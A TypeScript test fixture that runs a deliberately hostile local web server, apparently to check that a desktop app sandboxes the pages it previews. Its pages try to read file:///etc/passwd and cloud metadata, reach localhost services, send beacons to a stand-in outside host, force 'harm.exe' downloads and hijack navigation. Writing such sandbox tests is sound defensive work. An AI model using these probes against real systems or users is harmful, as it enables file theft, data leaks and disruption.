import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'

/** The results of a hostile page's attempts, by their names. */
export type Report = Readonly<Record<string, unknown>>

/** A malicious development server, and another service on the same computer that its pages must not reach. */
export interface HostileServer {
  readonly port: number
  readonly otherPort: number
  /** The reports of its pages, in the order received. */
  readonly reports: Report[]
  /** Requests with their path and their cookies. */
  readonly requests: { readonly path: string; readonly cookie: string }[]
  /** Requests that reached the other service. */
  readonly reached: string[]
  readonly close: () => void
}

/** Runs in the page: all its attempts to reach the app, the computer and the network. */
const attempts = async (other: number): Promise<Report> => {
  const report: Record<string, unknown> = {}
  const attempt = async (name: string, work: () => unknown): Promise<void> => {
    const late = new Promise((done) => setTimeout(done, 700, 'no answer'))
    report[name] = await Promise.race([
      (async () => work())().then(
        (value) => value,
        (error: unknown) => `refused: ${String(error).slice(0, 40)}`,
      ),
      late,
    ])
  }
  const names = ['api', 'require', 'process', 'module', 'Buffer', 'electron', 'ipcRenderer', '__dirname']
  report.names = names.filter((name) => name in globalThis)
  report.framed = parent !== self || opener !== null
  for (const kind of ['alert', 'confirm', 'prompt', 'print'] as const)
    await attempt(kind, () => {
      for (let i = 0; i < 200; i += 1) globalThis[kind]('x')
      return 'passed'
    })
  for (const url of [
    'https://outside.example/fetch',
    `http://localhost:${other}/fetch`,
    'file:///etc/passwd',
    'app://postwright/index.html',
    'asset://site/a.md?ref=x.png',
    'http://169.254.169.254/latest/meta-data',
    'http://0.0.0.0:1/',
    '/to-outside',
    '/to-file',
    '/to-other',
  ])
    await attempt(`fetch ${url}`, async () => (await fetch(url, { mode: 'no-cors' })).type)
  for (const url of ['https://outside.example', '/', 'about:blank'])
    await attempt(`open ${url}`, () => open(url) === null || 'a window')
  await attempt('worker', async () => {
    await navigator.serviceWorker.register('/worker.js')
    return 'registered'
  })
  for (const url of [`ws://localhost:${other}/`, 'wss://outside.example/'])
    await attempt(
      `socket ${url}`,
      () =>
        new Promise((done) => {
          const socket = new WebSocket(url)
          socket.onopen = () => done('open')
          socket.onerror = () => done('refused')
        }),
    )
  await attempt(
    'geolocation',
    () => new Promise((_, no) => navigator.geolocation.getCurrentPosition(_, (e) => no(e.message))),
  )
  await attempt('notification', () => Notification.requestPermission())
  await attempt('camera', () => navigator.mediaDevices.getUserMedia({ video: true, audio: true }))
  await attempt('screen', () => navigator.mediaDevices.getDisplayMedia())
  await attempt('clipboard', () => navigator.clipboard.readText())
  await attempt('copy', () => navigator.clipboard.writeText('x'))
  for (const [name, device] of [
    ['usb', 'requestDevice'],
    ['hid', 'requestDevice'],
    ['serial', 'requestPort'],
    ['bluetooth', 'requestDevice'],
  ] as const)
    await attempt(name, () => Reflect.get(navigator, name)[device]({ filters: [], acceptAllDevices: true }))
  await attempt('midi', () => navigator.requestMIDIAccess({ sysex: true }).then(() => 'a device'))
  await attempt('files', () => Reflect.get(globalThis, 'showOpenFilePicker')().then(() => 'a file'))
  await attempt('credentials', async () => {
    const publicKey = { challenge: new Uint8Array(16), rpId: 'localhost' }
    return (await navigator.credentials.get({ publicKey })) && 'a key'
  })
  await attempt('pointer', () => document.documentElement.requestPointerLock())
  await attempt('handler', () => navigator.registerProtocolHandler('web+harm', '/?%s'))
  await attempt('full screen', () => document.documentElement.requestFullscreen())
  await attempt('peer', async () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:stun.outside.example:3478' }] })
    const found: string[] = []
    peer.onicecandidate = ({ candidate }) => found.push(candidate?.candidate ?? '')
    peer.createDataChannel('x')
    await peer.setLocalDescription(await peer.createOffer())
    await new Promise((done) => setTimeout(done, 400))
    return found.filter((one) => one !== '')
  })
  const add = (tag: string, attributes: Record<string, string>) => {
    const element = document.createElement(tag)
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
    document.body.append(element)
    return element
  }
  for (const src of [
    'file:///etc/passwd',
    'https://outside.example/frame',
    'app://postwright/index.html',
    `http://localhost:${other}/frame`,
    '/to-file',
    '/to-outside',
    '/to-other',
  ])
    add('iframe', { src })
  for (const src of ['https://outside.example/x.png', `http://localhost:${other}/x.png`, '/to-other'])
    add('img', { src })
  for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'stylesheet', 'modulepreload', 'prerender'])
    add('link', { rel, href: `https://${rel}.outside.example/x` })
  add('script', { src: 'https://outside.example/x.js' })
  add('script', { type: 'speculationrules' }).textContent =
    '{"prefetch":[{"source":"list","urls":["https://rules.outside.example/"]}]}'
  add('object', { data: 'file:///etc/passwd' })
  navigator.sendBeacon('https://outside.example/beacon', 'x')
  for (const href of ['/download', '/', 'https://outside.example/file'])
    add('a', { href, download: 'harm.exe' }).click()
  add('iframe', { src: '/download' })
  add('a', { href: 'https://outside.example/blank', target: '_blank' }).click()
  parent.postMessage('call', '*')
  addEventListener('beforeunload', (event) => {
    event.preventDefault()
    event.returnValue = 'stay'
  })
  // biome-ignore lint/suspicious/noDocumentCookie: pages do
  document.cookie = 'mine=1'
  report.cookie = document.cookie
  for (const url of [
    'https://outside.example/go',
    'file:///etc/passwd',
    'app://postwright/index.html',
    `http://localhost:${other}/go`,
    'data:text/html,x',
    'vscode://outside',
    'mailto:a@outside.example',
  ]) {
    location.href = url
    await new Promise((done) => setTimeout(done, 150))
  }
  report.stayed = location.pathname
  return report
}

const page = (
  other: number,
) => `<!doctype html><meta charset="utf-8"><title>Hostile</title><body><h1>Hostile page</h1>
<script>(${attempts})(${other}).then(async (report) => {
  await fetch('/report', { method: 'POST', body: JSON.stringify(report) })
  for (const way of ['/to-other', '/to-file', '/to-outside']) {
    location.href = way
    await new Promise((done) => setTimeout(done, 300))
  }
})</script>`

/** Starts it. `/posts/attempts/` makes all attempts, the others do what they are called. */
export const startHostileServer = async (): Promise<HostileServer> => {
  const reports: Report[] = []
  const requests: { path: string; cookie: string }[] = []
  const reached: string[] = []
  const other = createServer((request, response) => {
    reached.push(request.url ?? '')
    response.setHeader('access-control-allow-origin', '*').end('secret')
  })
  other.on('upgrade', (request) => reached.push(`socket ${request.url}`))
  await new Promise<void>((done) => other.listen(0, '127.0.0.1', done))
  const otherPort = (other.address() as AddressInfo).port

  const redirects: Readonly<Record<string, string>> = {
    '/to-outside': 'https://outside.example/redirected',
    '/to-file': 'file:///etc/passwd',
    '/to-other': `http://localhost:${otherPort}/redirected`,
    '/posts/away/': 'https://outside.example/away',
    '/posts/metadata/': 'http://169.254.169.254/latest/meta-data',
    '/posts/network/': 'http://192.168.0.1/',
  }
  const answer = (request: IncomingMessage, response: ServerResponse): void => {
    const path = request.url ?? ''
    requests.push({ path, cookie: request.headers.cookie ?? '' })
    const location = redirects[path]
    if (location !== undefined) return void response.writeHead(302, { location }).end()
    if (path === '/report') {
      let text = ''
      request.on('data', (bytes: Buffer) => {
        text += bytes
      })
      request.on('end', () => {
        reports.push(JSON.parse(text))
        response.end()
      })
      return
    }
    if (path === '/download')
      return void response
        .writeHead(200, {
          'content-type': 'application/x-msdownload',
          'content-disposition': 'attachment; filename=harm.exe',
        })
        .end('harm')
    response.setHeader('content-type', path === '/worker.js' ? 'text/javascript' : 'text/html')
    if (path === '/worker.js') return void response.end("addEventListener('fetch', () => undefined)")
    if (path === '/posts/attempts/') {
      response.setHeader('set-cookie', 'served=1')
      response.setHeader('content-security-policy', "default-src * data: blob: 'unsafe-inline' 'unsafe-eval'")
      return void response.end(page(otherPort))
    }
    if (path === '/posts/password/')
      return void response
        .writeHead(401, { 'www-authenticate': 'Basic realm="Mail"' })
        .end('<h1>Password</h1>')
    if (path === '/posts/closing/')
      return void response.end('<h1>Closing</h1><script>setInterval(() => close(), 1)</script>')
    if (path === '/posts/reloading/')
      return void response.end('<h1>Reloading</h1><script>location.reload()</script>')
    if (path === '/posts/busy/')
      return void response.end('<h1>Busy</h1><script>setTimeout(() => { for (;;); }, 300)</script>')
    if (path === '/posts/endless/') {
      const more = (): void => {
        if (!response.destroyed) response.write(`<p>${'x'.repeat(60_000)}</p>`, more)
      }
      more()
      return
    }
    response.end('<h1>Another page</h1>')
  }
  const server = createServer(answer)
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
  return {
    port: (server.address() as AddressInfo).port,
    otherPort,
    reports,
    requests,
    reached,
    close: () => {
      for (const one of [server, other]) {
        one.closeAllConnections()
        one.close()
      }
    },
  }
}
